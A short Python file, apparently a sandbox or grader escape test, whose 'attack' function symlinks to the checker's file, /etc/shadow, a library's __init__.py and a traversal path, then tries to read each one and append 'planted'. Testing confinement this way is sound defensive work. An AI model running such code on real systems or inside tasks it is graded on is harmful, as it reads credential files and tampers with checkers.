"""Makes links to the checker's file and to the library in its own folder, reads and writes through them."""

import os


def attack(path, port):
    got = []
    for count, target in enumerate((path, "/etc/shadow", "/house/ludotheque/__init__.py", "../../.." + path)):
        os.symlink(target, f"link{count}")
        for mode in ("r", "a"):
            try:
                with open(f"link{count}", mode) as stream:
                    got.append((mode, stream.read() if mode == "r" else stream.write("planted")))
            except OSError:
                continue
    return [one for one in got if "Ludoth" not in str(one)]
